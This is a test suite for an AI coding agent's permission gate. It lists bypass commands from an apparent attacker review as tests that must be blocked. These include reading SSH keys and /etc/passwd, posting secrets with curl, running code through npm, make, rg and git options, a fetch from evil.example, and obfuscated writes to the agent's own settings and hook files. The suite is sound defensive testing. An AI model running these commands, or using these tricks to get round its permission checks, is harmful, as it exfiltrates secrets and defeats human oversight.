import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join, sep } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { argumentPathsProblem, MAX_LISTED } from '../../src/core/agent/permissions/bash-argument-paths';
import type { ParsedBash } from '../../src/core/agent/permissions/bash-words';
import { PermissionGate, suggestedRule } from '../../src/core/agent/permissions/permission-gate';
import { permissionSettingsSchema, type PermissionSettings } from '../../src/core/agent/permissions/permission-settings';
import { createBashTool } from '../../src/core/agent/tools/bash-tool';
import { createEditTool } from '../../src/core/agent/tools/edit-tool';
import { createGlobTool } from '../../src/core/agent/tools/glob-tool';
import { createGrepTool } from '../../src/core/agent/tools/grep-tool';
import type { Tool } from '../../src/core/agent/tools/tool';
import { createWriteTool } from '../../src/core/agent/tools/write-tool';
import { analyzeBashCommand } from '../../src/core/permissions/bash-command';
import { MAX_WALKED } from '../../src/core/agent/permissions/recursive-links';

// The gate against an attacker review's reproductions: each case here was allowed before.

let base: string;
let ws: string;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'gate-attacks-')));
  ws = join(base, 'ws');
  for (const dir of ['.vscode', 'src', 'hooks', 'secrets']) mkdirSync(join(ws, dir), { recursive: true });
  mkdirSync(join(base, 'outside'));
  writeFileSync(join(ws, '.vscode', 'hooks.json'), '{}');
  writeFileSync(join(ws, 'hooks', 'run'), '#!/bin/sh\n');
  writeFileSync(join(ws, '.env'), 'SECRET=1');
  writeFileSync(join(base, 'outside', 'secret.txt'), 'secret');
  symlinkSync(join(base, 'outside'), join(ws, 'out'));
  symlinkSync(join(base, 'outside', 'secret.txt'), join(ws, 'src', 'leak'));
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const tools: Record<string, Tool> = {
  Bash: createBashTool() as unknown as Tool,
  Write: createWriteTool() as unknown as Tool,
  Edit: createEditTool() as unknown as Tool,
  Grep: createGrepTool() as unknown as Tool,
  Glob: createGlobTool() as unknown as Tool,
};

function gate(settings: Partial<PermissionSettings> = {}) {
  const g = new PermissionGate(() => permissionSettingsSchema.parse(settings));
  const ctx = () => ({
    workspaceRoot: ws,
    cwd: ws,
    home: homedir(),
    protectedPaths: [join(ws, '.vscode', 'hooks.json'), join(ws, 'hooks', 'run')],
  });
  return {
    gate: g,
    run: (command: string) => g.evaluate(tools.Bash, { command }, undefined, ctx()),
    tool: (name: string, input: Record<string, unknown>) => g.evaluate(tools[name], input, undefined, ctx()),
  };
}

describe('a pattern rule does not grant arguments that lead outside the workspace', () => {
  it.each([
    ['cat *', 'cat ~/.ssh/id_rsa'],
    ['cat *', 'cat /proc/$PPID/environ'],
    ['cat *', 'cat $HOME/.bashrc'],
    ['cat *', 'cat ../outside/secret.txt'],
    ['cat *', 'cat out/secret.txt'],
    ['cat *', 'cat src/leak'],
    ['cd *,cat *', 'cd src && cat leak'],
    ['cat *', 'cat {/etc/passwd,x}'],
    ['cat *', 'f=../outside/secret.txt; cat $f'],
    ['cat *', 'for f in /etc/passwd; do cat $f; done'],
    ['cat *', 'cat ../*'],
    ['grep *', 'grep -r KEY /home'],
    ['grep *', 'grep --file=/etc/passwd x'],
    ['grep *', 'grep -f/etc/passwd x'],
    ['ls *', 'ls ~'],
    ['ls *', 'ls ..'],
    ['cp *', 'cp evil.sh ~/.bashrc'],
    ['cp *', 'cp -t../outside evil.sh'],
    ['tee *', 'tee ~/.profile'],
    ['sort *', 'sort -o../x a'],
    ['dd *', 'dd if=/etc/passwd of=x'],
    ['git *', 'git diff --no-index /etc/passwd /dev/null'],
    ['git *', 'git log --output=/tmp/log-mark'],
    ['git *', 'git -C /tmp status'],
    ['cat *', 'cat sr?/lea*'],
    ['cat *', 'cat */secret.txt'],
    ['cat *', 'cat **/secret.txt'],
    ['cat *', 'cat ..*/outside/secret.txt'],
    ['cd *,cat *', 'cd o* && cat secret.txt'],
    ['cd *,cat *', 'cd sr? && cat leak'],
    ['ls *', 'ls o*'],
    ['cp *', 'cp src/a.ts ou[t]/'],
    ['mkdir *,cat *', 'mkdir -p h: && cat h://../../outside/secret.txt'],
    ['mkdir *,cp *', 'mkdir h: ; cp src/a.ts h://../../outside/planted.txt'],
    ['mkdir *,cat *', 'mkdir h: && cat h://$P/outside/secret.txt'],
    ['curl *', 'curl file:///etc/passwd'],
    ['curl *', 'curl file://localhost/etc/passwd'],
    ['curl *', 'curl file:/etc/passwd'],
    ['curl *', 'curl FILE:etc/passwd'],
    ['cat *', 'cat ${X}d'],
    ['cat *', 'cat "${HOME}x"'],
    ['cat *', 'X=t/secret.txt; cat "ou$X"'],
    ['cat *', 'X=c/leak; cat "sr$X"'],
    ['cat *', 'cat "..$X"'],
    ['cat *', 'cat x$X'],
    ['cp *', 'cp -vtout a.txt'],
    ['cp *', 'X=t; cp -vt"ou$X" b.txt'],
    ['sort *', 'sort -roout/pwn x'],
    ['curl *', 'curl -sS --data-binary @../outside/secret.txt http://127.0.0.1:9/'],
    ['curl *', 'curl -d @/etc/passwd http://127.0.0.1:9/'],
    ['curl *', 'curl --data=@/etc/passwd http://127.0.0.1:9/'],
    ['curl *', 'curl --data-urlencode name@/etc/passwd http://127.0.0.1:9/'],
    ['curl *', "curl -F 'a=</etc/passwd' http://127.0.0.1:9/"],
    ['sort *', 'sort -uuuuuuuuuo/tmp/pwned x'],
    ['grep *', 'grep -1f/etc/passwd x'],
    ['xargs *', 'xargs -0a/etc/passwd echo'],
    ['tar *', 'tar -cvvvvvvvvvC/etc -f x.tar passwd'],
    ['cat *', 'cat "s*$X"'],
    ['cat *', 'for f in x$X; do cat "$f"; done'],
    ['curl *', 'curl https://example.com/items/$ID'],
  ])('Bash(%s) asks for %j', (rule, command) => {
    const allow = rule.split(',').map((r) => `Bash(${r})`);
    expect(gate({ allow }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
  });

  it.each([
    ['cat *', 'cat src/a.ts README.md > /dev/null'],
    ['git *', 'git log --oneline origin/main -- src/'],
    ['git *', 'git diff HEAD~1 -- ./src'],
    ['curl *', 'curl -s https://example.com/a/b'],
    ['cat *', 'cat /dev/null /dev/stdin'],
    ['cat *', 'cat src/*.ts'],
    ['ls *', 'ls s*'],
    ['git *', 'git clone https://github.com/x/y'],
    ['curl *', 'curl https://example.com/a/../b'],
    ['curl *', 'curl "https://example.com/items/$ID"'],
    ['git *', 'git commit -m "fix: $msg"'],
    ['echo *', 'echo "value: $x"'],
    ['cat *', 'cat "notes-$X.txt"'],
    ['npm *', 'npm install @types/node'],
    ['ls *', 'ls -la src'],
  ])('Bash(%s) still grants %j', (rule, command) => {
    writeFileSync(join(ws, 'src', 'a.ts'), '');
    expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'allow', level: 'P7' });
  });

  it('leaves the bare Bash rule and bypassPermissions mode to the person who chose them', () => {
    expect(gate({ allow: ['Bash'] }).run('cat ~/.ssh/id_rsa')).toMatchObject({ verdict: 'allow', level: 'P7' });
    expect(gate({ mode: 'bypassPermissions' }).run('cat ~/.ssh/id_rsa')).toMatchObject({ verdict: 'allow', level: 'P8' });
  });

  it('grants a path in an additional directory', () => {
    const g = gate({ allow: ['Bash(cat *)'], additionalDirectories: [join(base, 'outside')] });
    expect(g.run(`cat ${join(base, 'outside', 'secret.txt')}`)).toMatchObject({ verdict: 'allow', level: 'P7' });
  });
});

describe('the protected-file check follows the line, in every mode', () => {
  it.each([
    'cd src && cp ../evil.json ../.vscode/hooks.json',
    'pushd src; cp ../evil.json ../.vscode/hooks.json',
    'cp -t.vscode hooks.json',
    'sort -o.vscode/hooks.json evil.json',
    'f=.vscode/hooks.json; cp evil.json $f',
    'for f in .vscode/hooks.json; do cp evil.json $f; done',
    'cp evil.json .vs""code/hooks.json',
    "git apply <<'EOF'\n--- a/.vscode/hooks.json\n+++ b/.vscode/hooks.json\nEOF",
    'cd hooks && cp evil run',
    'cd src && cp evil ../hooks/run',
    'cd hooks; sed -i s/a/b/ run',
    "bash -c 'cd hooks && cp x run'",
    'cat <<< .vscode/hooks.json',
  ])('asks a person for %j in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
  });

  it.each([
    ['a double negation', '! ! cp evil.json .vscod"e"/hook"s".json'],
    ['an array prefix assignment', 'a[1]=2 cp evil.json x'],
    ['a line past the syntax-node cap', `cp evil.json x; : ${'a '.repeat(10_001)}`],
    ['a line nested deeper than the analysis walks', `cp evil.json x; : $((${'1+'.repeat(3_000)}1))`],
    [
      'a script behind more launcher arguments than are read',
      `ionice -c 3 ${'env '.repeat(33)}bash -c "cp evil.json $'\\x2evs\\x63ode/hoo\\x6bs.json'"`,
    ],
  ])('asks a person for a line it cannot analyze: %s', (_, command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
  });

  it('leaves other lines alone', () => {
    expect(gate({ mode: 'bypassPermissions' }).run('cd src && cp a b')).toMatchObject({ verdict: 'allow', level: 'P8' });
  });
});

describe('a pattern that may name a .git folder anywhere asks, as a literal one does', () => {
  it.each([
    'cp x sub/.g*/config',
    'cp x sub/.G?T/config',
    'cp x sub/{.git,y}/config',
    'cp x sub/@(.git)/config',
    'tee -a sub/.gi[t]/hooks/pre-commit < x',
    'shopt -s dotglob; cp x sub/*/config',
    'cp x ../shared/.g*/config',
    'cp x sub/.[!.]*/config',
    'cp x sub/.[!x]it/hooks/pre-commit',
    'cp x sub/{y/.g*,z}/config',
    `cp x sub/.{g,x}it${'{,}'.repeat(9)}/config`,
    'd=.gi; cp x sub/${d}t/config',
    'a=.g; b=it; cp x sub/$a$b/config',
    'a=.g; cp x "sub/${a}it/hooks/pre-commit"',
    "find sub -name '*git' -exec cp x {}/config \\;",
    "find sub -iname '?GIT' -exec cp x {}/config \\;",
    'cp x sub/.gi$(printf t)/config',
    'cp x "sub/${UNSET_NAME}.git/config"',
    'cp x sub/.g`printf i`t/hooks/pre-commit',
    "find . -regex '\\./sub/\\.g.t' -exec cp x {}/config \\;",
    "find . -iregex '\\./SUB/\\.G.T/CONFIG' -delete",
    `${'nice '.repeat(9)}find sub -name '*git' -exec cp x {}/config \\;`,
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each(['cp x src/*/y', 'cp x sub/*.*/config', 'ls sub/*', "find src -name '*.ts' -exec wc -l {} +"])('%j does not', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
  });

  it.each(['cp x "git@h:acme/$n.git/config"', 'tee "https://h/${n}.git/hooks/pre-commit" < x', 'cp x "git@h:acme/.g?t/config"'])(
    'a local path shaped as a remote that reaches inside the .git an expansion may complete, %j, asks',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
    },
  );
});

describe("a narrow prefix rule does not grant an allowed program's options that run code of the model's choosing", () => {
  it.each([
    // npm hands --node-options to every node the script starts as NODE_OPTIONS: `--import=data:` runs any code.
    ['npm test:*', `npm test --node-options="--import=data:text/javascript,import{execSync}from'node:child_process';execSync('id')"`],
    ['npm test:*', 'npm test --node-opt=--require=./x.js'],
    ['npm test:*', 'npm test --script-shell=python3'],
    ['npm test:*', 'npm test --userconfig ./x.npmrc'],
    ['npm test:*', 'npm test --globalconfig=./x.npmrc'],
    ['npm test:*', 'npm test --prefix=src'],
    ['npm exec tsc:*', "npm exec tsc --call='id'"],
    ['npm exec tsc:*', 'npm exec tsc --package=tsc-evil'],
    ['pnpm test:*', 'pnpm test --node-options=--require=./x.js'],
    ['yarn test:*', 'yarn test --use-yarnrc ./x.yarnrc'],
    // make evaluates the text as makefile syntax: $(shell ...) runs; so does a makefile of the model's.
    ['make test:*', "make test --eval='$(shell id)'"],
    ['make test:*', "make test --ev='$(shell id)'"],
    ['make test:*', "make test -E'$(shell id)'"],
    ['make test:*', "make test -sE '$(shell id)'"],
    ['make test:*', 'make test -f src/x.mk'],
    ['make test:*', 'make test --makefile=src/x.mk'],
    ['make test:*', 'make -C src test'],
    // A variable on the command line overrides the Makefile's: a recipe that runs $(CC) runs it.
    ['make test:*', 'make test CC=./x'],
    ['make test:*', "make test 'SHELL=python3'"],
    // ripgrep runs a preprocessor of the caller's choice on every file.
    ['rg:*', 'rg --pre sh x src'],
    ['rg:*', 'rg --pre=sh x src'],
    ['rg:*', 'rg --hostname-bin=./x --hyperlink-format=default x src'],
    // sort runs this program to compress its temporary files.
    ['sort:*', 'sort -S 1 --compress-program=sh src/a.ts'],
    ['sort:*', 'sort -S 1 --compress-prog sh src/a.ts'],
    ['rsync:*', 'rsync -avze ./x src host:b'],
    ['tar:*', 'tar -xvIsh -f a.tar'],
    // git reads the repository, and the config that runs its programs, from where these say.
    ['git:*', 'git -C src status'],
    ['git:*', 'git --git-dir=src --work-tree=. status'],
    ['git:*', 'git --git-dir src status'],
    ['git:*', 'git --bare status'],
    // git 2.40's --attr-source takes the next word: the subcommand is not HEAD.
    ['git:*', 'git --attr-source HEAD -C src status'],
    // -e: the environment overrides every Makefile variable, not only make's defaults.
    ['make test:*', 'make test -e'],
    ['gmake test:*', "gmake test --eval='$(shell id)'"],
    // npm expands a group whose letters are all shorthands: -d is --loglevel info, -C is --prefix.
    ['npm test:*', 'npm test -dC src'],
  ])('Bash(%s) does not allow `%s`', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command).verdict).not.toBe('allow');
  });

  it.each([
    ['git *', 'GIT_DIR=src git status'],
    ['git *', 'GIT_WORK_TREE=.. git status'],
    ['git *', 'GIT_CONFIG_COUNT=0 git status'],
    ['git *', 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=id git status'],
    ['git *', "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='id'\" git status"],
    ['git *', 'GIT_EXEC_PATH=./x git status'],
    ['git *,unset *', 'unset GIT_CONFIG_COUNT; git status'],
    ['git *,export *', 'export GIT_CONFIG_COUNT=0; git status'],
    ['make test', "MAKEFLAGS='--eval=$(shell id)' make test"],
    ['rg *', 'RIPGREP_CONFIG_PATH=./x rg x src'],
    // make takes every variable of its environment for its own: $(RM) in the recipe runs ./x.
    ['make clean', 'RM=./x make clean'],
    ['make test:*', 'RUNNER=./x make test'],
    ['make test:*', 'env RUNNER=./x make test'],
  ])('Bash(%s) does not allow `%s`: the variable decides what runs', (rules, command) => {
    expect(gate({ allow: rules.split(',').map((rule) => `Bash(${rule})`) }).run(command).verdict).not.toBe('allow');
  });

  it.each([
    ['npm test:*', 'npm test'],
    ['npm test:*', 'npm test -- --watch=false'],
    ['npm test:*', 'CI=true npm test'],
    ['make test:*', 'make test -j4'],
    ['make test:*', 'make test -s'],
    ['make test CC=*', 'make test CC=clang'],
    ['make test -f *', 'make test -f src/x.mk'],
    ['rg:*', 'rg --pre-glob=*.gz -n x src'],
    ['sort:*', 'sort -r src/a.ts'],
    ['rsync -e *', 'rsync -e ssh src host:b'],
    ['rsync -avze ssh *', 'rsync -avze ssh src host:b'],
    ['git:*', 'git log -C --oneline'],
    ['git:*', 'git diff --text'],
    ['git -C src:*', 'git -C src status'],
  ])('still grants `%s` what it names: `%s`', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command).verdict).toBe('allow');
  });
});

describe('the legacy prefix form `X:*` in an allow rule grants X and its arguments, not every program whose name starts with X', () => {
  // Read as `cat*`, `npx tsc*`: catchsegv (glibc before 2.35) runs the command it is given;
  // npx fetches and runs any package named tsc…, and tsc-watch runs its --onSuccess command.
  it.each([
    ['cat:*', 'catchsegv id'],
    ['npx tsc:*', "npx tsc-watch --onSuccess 'id'"],
    ['ls:*', 'lsof -p 1'],
  ])('Bash(%s) does not allow `%s`', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command).verdict).not.toBe('allow');
  });

  it.each([
    ['cat:*', 'cat'],
    ['cat:*', 'cat src/a.ts'],
    ['npm run test:*', 'npm run test:unit'],
    ['npm run test:*', 'npm run test'],
    ['npm run test:*', 'npm run test -- --watch=false'],
  ])('Bash(%s) allows `%s`', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command).verdict).toBe('allow');
  });

  it.each([
    ['deny', 'cat:*', 'catchsegv id', 'deny'],
    ['ask', 'npm run test:*', 'npm run testx', 'ask'],
  ])('a %s rule Bash(%s) still matches `%s`: a broader guard only asks more', (kind, rule, command, verdict) => {
    expect(gate({ [kind]: [`Bash(${rule})`], mode: 'bypassPermissions' }).run(command).verdict).toBe(verdict);
  });
});

describe('a git directory the model wrote outside a `.git` folder (bare layout)', () => {
  // In acceptEdits mode the Write tool may write evil/HEAD, evil/config ([core] fsmonitor = <cmd>,
  // worktree = ..), evil/objects/x and evil/refs/x: no `.git` in their paths. The Bash tool's git
  // refuses such a folder found by discovery (tools-bash.test.ts); these name it explicitly.
  it('can be written in acceptEdits mode: no `.git` in its paths', () => {
    expect(gate({ mode: 'acceptEdits' }).tool('Write', { file_path: 'evil/config', content: '[core]\n' }).verdict).toBe('allow');
  });

  it.each([
    [['Bash(git:*)'], 'git -C evil status'],
    [['Bash(git:*)'], 'git --git-dir=evil --work-tree=. status'],
    [['Bash(git:*)', 'Bash(cd:*)'], 'cd evil && git --bare status'],
  ])('%j does not allow `%s` in acceptEdits mode', (allow, command) => {
    expect(gate({ mode: 'acceptEdits', allow }).run(command).verdict).not.toBe('allow');
  });
});

describe('a VS Code workspace file, new or not, anywhere, asks: VS Code offers to open one and its settings govern', () => {
  it.each([
    ['Write', { file_path: 'evil.code-workspace', content: '{}' }],
    ['Write', { file_path: 'sub/team.CODE-WORKSPACE', content: '{}' }],
    ['Edit', { file_path: 'x.code-workspace', old_string: 'a', new_string: 'b' }],
  ])('%s %j asks in bypassPermissions mode', (name, input) => {
    expect(gate({ mode: 'bypassPermissions' }).tool(name, input)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it('a file tool through a link to one asks', () => {
    symlinkSync(join(ws, 'evil.code-workspace'), join(ws, 'notes.json'));
    expect(gate({ mode: 'acceptEdits' }).tool('Write', { file_path: 'notes.json', content: '{}' })).toMatchObject({
      verdict: 'ask',
      source: 'protected file',
    });
  });

  it.each([
    'echo {} > evil.code-workspace',
    'cp settings.json src/../team.code-workspace',
    'mv x.json x.code-work{space,}',
    'cp x.json a.{code,b}-workspace',
    'f=evil.code-work; cp x.json "${f}space"',
    `bash -c "echo {} > a.code-$'\\x77'orkspace"`,
    'cp x.json a.code-workspac{a..z}',
    'cp x.json x{1..5000}',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each(['mkdir -p src/{a,b,c}', 'touch f{1..100}.txt', 'cp x.json x.code', 'ls *.json', 'echo workspace > code.txt'])(
    '%j does not',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
    },
  );
});

describe('a word that starts with an expansion may start with the home folder, as `~` does', () => {
  const home = (command: string) => {
    const g = new PermissionGate(() => permissionSettingsSchema.parse({ mode: 'bypassPermissions' }));
    const storage = join(homedir(), '.hookpilot') + sep;
    const ctx = {
      workspaceRoot: ws,
      cwd: ws,
      home: homedir(),
      protectedPaths: [join(homedir(), '.claude', 'settings.json'), storage],
      privatePaths: [storage],
    };
    return g.evaluate(tools.Bash, { command }, undefined, ctx);
  };

  it.each([
    'cp evil.json "$HOME/.claude/settings.json"',
    'tee ${HOME}/.claude/settings.json < evil.json',
    'rm -rf "$HOME"/.hookpil?t/projects',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(home(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it('leaves other paths under an expansion alone', () => {
    expect(home('cp "$HOME/notes.txt" "$d/x"')).toMatchObject({ verdict: 'allow' });
  });
});

describe("a folder holding the person's settings files asks, as a workspace folder holding a protected file does", () => {
  const user = join(homedir(), '.config', 'Code', 'User');
  const home = (command: string) => {
    const g = new PermissionGate(() => permissionSettingsSchema.parse({ mode: 'bypassPermissions' }));
    const protectedPaths = [
      join(user, 'settings.json'),
      join(user, 'profiles', 'team', 'settings.json'),
      join(homedir(), '.config', 'Code', 'Machine', 'settings.json'),
      join(homedir(), '.claude', 'settings.json'),
    ];
    return g.evaluate(tools.Bash, { command }, undefined, { workspaceRoot: ws, cwd: ws, home: homedir(), protectedPaths });
  };

  it.each([
    'cp -r stage/. ~/.config/Code/User/',
    'cp -r stage/. ~/.config/Code/User/profiles/team/',
    'cp -r stage/. ~/.config/Code/User/profiles',
    'cp -r stage/. "$HOME/.config/Code/Machine"',
    'rsync -a stage/ ~/.claude',
    'tar -xf s.tar -C ~/.config/Code/User',
    'mv ~/.config/Code ~/old && mv stage ~/.config/Code',
    'cp -r stage/. ~/.config/',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(home(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each([
    'cp -r stage/. ~/notes/',
    'cat ~/.config/Code/User/keybindings.json',
    'mkdir -p ~/.config/nvim && cp init.lua ~/.config/nvim/',
    'ls ~ && ls ..',
    'echo "$x"',
    'cd ~ && ls',
  ])('%j does not', (command) => {
    expect(home(command)).toMatchObject({ verdict: 'allow' });
  });
});

describe('a script the line runs that the analysis cannot read asks, in every mode', () => {
  it.each([
    ['past the node budget', `bash -c '${':;'.repeat(6_000)} cp evil.cfg .g?t/config'`],
    ['nested too deeply', `bash -c 'x=$((${'1+'.repeat(3_000)}1)); cp x .g?t/config'`],
    ['that does not parse', `eval 'cp x .g?t/config "'`],
    ['more than 3 levels down', `bash -c "bash -c \\"bash -c 'bash -c \\\\\\"cp x .g?t/config\\\\\\"'\\""`],
  ])('%s', (_, command) => {
    for (const mode of ['default', 'bypassPermissions'] as const) {
      expect(gate({ mode }).run(command), mode).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
    }
  });
});

describe('what a script the line runs does is checked as the line itself', () => {
  it.each([
    ['its redirection', `bash -c "echo x > $'\\x2evscode/hook\\x73.json'"`],
    ['its redirection into a subfolder .git', `bash -c 'echo x > sub/.g""it/config'`],
    ['its redirection to an expansion', `bash -c 'echo x > "$F"'`],
    ['the script after an option of -c', `bash -c -o errexit "cp x $'\\x2evscode/hook\\x73.json'"`],
    ['the script behind a launcher option with a value', `env -C . bash -c 'cp x sub/.g""it/config'`],
    ['an unreadable script behind a launcher option', `env -C . bash -c 'cp x y; (('`],
    ['a here-string a launcher hands a shell', `flock /tmp/l bash <<< 'cp x sub/.g""it/config'`],
    ['a find path test below a named folder', `find . -path './sub/*it' -exec cp x {}/config \\;`],
    ['a find path test of a hooks folder', `find . -path '*/sub/*it/hooks' -exec cp x {}/pre-commit \\;`],
    ['the script flock runs', `flock /tmp/l -c "cp x $'\\x2evscode/hook\\x73.json'"`],
  ])('%s asks in bypassPermissions mode', (_, command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', system: true });
  });

  it.each([`env -C . sh <<< 'rm -rf victim'`, `flock /tmp/l sh <<< 'rm -rf victim'`])(
    'a deny rule sees the input a launcher hands a shell: %j',
    (command) => {
      expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm *)'] }).run(command)).toMatchObject({ verdict: 'deny' });
    },
  );

  it.each([`echo 'rm -rf victim' | taskset 1 sh`, `echo 'rm -rf victim' | flock /tmp/l bash`])(
    'a deny rule cannot rule out input piped to a shell behind a launcher: %j',
    (command) => {
      expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm *)'] }).run(command)).toMatchObject({ verdict: 'ask' });
    },
  );

  it.each([
    `bash -c -o errexit 'rm -rf victim'`,
    `bash -c +x 'rm -rf victim'`,
    `env -C . bash -c 'x=1; rm -rf victim'`,
    `ionice -c 3 bash -c 'x=1; rm -rf victim'`,
  ])('a deny rule sees the command in %j', (command) => {
    expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm *)'] }).run(command)).toMatchObject({ verdict: 'deny' });
  });

  it.each([
    "find . -name '*.ts' -not -path '*/node_modules/*'",
    "find src -path '*/__tests__/*' -name '*.test.ts'",
    "find . -name '*.*' -type f",
    "find src -name '*.ts' -exec wc -l {} +",
  ])('a find that cannot act on a .git folder is left alone: %j', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
  });

  it('a long line that does not parse asks, past the pieces a deny rule is tried on', () => {
    expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm *)'] }).run(`${'a;'.repeat(120_000)} "`)).toMatchObject({ verdict: 'ask' });
  });
});

describe("an additional directory's own hook, settings, task and MCP files ask, though this session does not load them", () => {
  const shared = () => join(base, 'shared');
  beforeEach(() => mkdirSync(join(base, 'shared', '.vscode'), { recursive: true }));

  it.each([
    ['Write', { file_path: '../shared/.vscode/hooks.json', content: '{}' }],
    ['Write', { file_path: '../shared/.vscode/tasks.json', content: '{}' }],
    ['Write', { file_path: '../shared/.claude/settings.local.json', content: '{}' }],
    ['Write', { file_path: '../shared/.mcp.json', content: '{}' }],
    ['Bash', { command: 'cp evil.json ../shared/.vscode/settings.json' }],
    ['Bash', { command: 'cd ../shared && tee .vscode/mcp.json < evil.json' }],
    ['Bash', { command: 'cp evil.json ../shared/.mcp.json' }],
    ['Bash', { command: 'cp evil.json ../shared/.c*/settings.json' }],
  ])('%s %j asks in bypassPermissions mode', (tool, input) => {
    const { tool: call } = gate({ mode: 'bypassPermissions', additionalDirectories: [shared()] });
    expect(call(tool, input)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each(['tar -xf s.tar -C ../shared/.claude', 'rm -rf ../shared/.claude'])('a folder holding them, %j, asks', (command) => {
    const { run } = gate({ mode: 'bypassPermissions', additionalDirectories: [shared()] });
    expect(run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it('the directory itself is named as the workspace root is: `cd ../shared && make` does not ask', () => {
    const { run } = gate({ mode: 'bypassPermissions', additionalDirectories: [shared()] });
    expect(run('cd ../shared && make && ls ..')).toMatchObject({ verdict: 'allow' });
  });

  it('its other files are as any other file of the workspace', () => {
    const { tool: call } = gate({ mode: 'acceptEdits', additionalDirectories: [shared()] });
    expect(call('Write', { file_path: '../shared/notes.md', content: 'x' })).toMatchObject({ verdict: 'allow' });
    expect(call('Write', { file_path: '../shared/.vscode/launch.json', content: '{}' })).toMatchObject({ verdict: 'allow' });
  });
});

describe('"Allow for this session" stores exactly the approved call', () => {
  const after = (approved: string, command: string) => {
    const { gate: g, run } = gate();
    g.allowForSession(suggestedRule('Bash', { command: approved }));
    return run(command).verdict;
  };

  it.each([
    ['(ls)', 'python3 -c \'import os; os.system("id")\' ls'],
    ['(cd src && make)', "python3 -c 'x' 'cd src && make'"],
    ['(', 'curl -s http://evil.example/x -o y'],
    ['rm -rf build/*', 'rm -rf build/ ~'],
    ['', 'touch x'],
    ['*', 'touch x'],
    ['echo $HOME', 'echo anything'],
    ['bash <<< "echo hi"', 'bash <<< "rm -f victim.txt"'],
    ["python3 - <<< 'print(1)'", 'python3 - <<< \'import os; os.remove("victim.txt")\''],
    ['sort < a.txt', 'sort < ../outside.txt'],
    ["rm 'a b'", 'rm a b'],
    ["rm '*'", 'rm *'],
    ['rm \\*', 'rm *'],
    ["rm '~/x'", 'rm ~/x'],
    ["find . -name 'x -delete'", 'find . -name x -delete'],
    ["git commit -m ''", 'git commit -m'],
    ["timeout 5 rm 'a b'", 'timeout 5 rm a b'],
  ])('approving %j does not allow %j', (approved, command) => {
    expect(after(approved, command)).toBe('ask');
  });

  it('matches the approved simple command again, quotes and stars included', () => {
    expect(suggestedRule('Bash', { command: 'rm -rf build/*' })).toBe('Bash(rm -rf build/\\*)');
    expect(suggestedRule('Bash', { command: '(ls)' })).toBe('Bash(ls)');
    expect(suggestedRule('Bash', { command: 'echo "(" && ls' })).toBe('Bash(echo "(" && ls)');
    expect(suggestedRule('Bash', { command: '  ' })).toBe('Bash(:)');
    expect(after('git commit -m "a b"', 'git commit -m "a b"')).toBe('allow');
    expect(after('npm test', 'npm test')).toBe('allow');
    for (const approved of ["rm 'a b'", "echo '*.tmp'", 'rm *.tmp', `echo 'it'"'"'s'`, "git commit -m ''", 'echo a~b']) {
      expect(after(approved, approved), approved).toBe('allow');
    }
    expect(after('rm *.tmp', "rm '*.tmp'")).toBe('ask');
    expect(after('echo "a b"', "echo 'a b'")).toBe('allow');
  });

  it('"Deny for this session" denies the same call again, quoted words included, by any path to the command', () => {
    const cases: Array<[string, string[]]> = [
      ["rm 'a b'", ["rm 'a b'", "/bin/rm 'a b'", "./rm 'a b'", "nohup /bin/rm 'a b'"]],
      ['git push origin "my branch"', ['git push origin "my branch"', '/usr/bin/git push origin "my branch"']],
      ["rm '*'", ["rm '*'", '/bin/rm "*"']],
      ['git commit -m "fix the bug"', ['git commit -m "fix the bug"']],
      [`echo 'it'"'"'s'`, [`echo 'it'"'"'s'`]],
      ['timeout 5 rm "a b"', ['timeout 5 rm "a b"']],
    ];
    for (const [denied, attempts] of cases) {
      const { gate: g, run } = gate({ allow: ['Bash'] });
      g.denyForSession(suggestedRule('Bash', { command: denied }));
      for (const attempt of attempts) expect(run(attempt).verdict, `${denied} / ${attempt}`).toBe('deny');
    }
  });

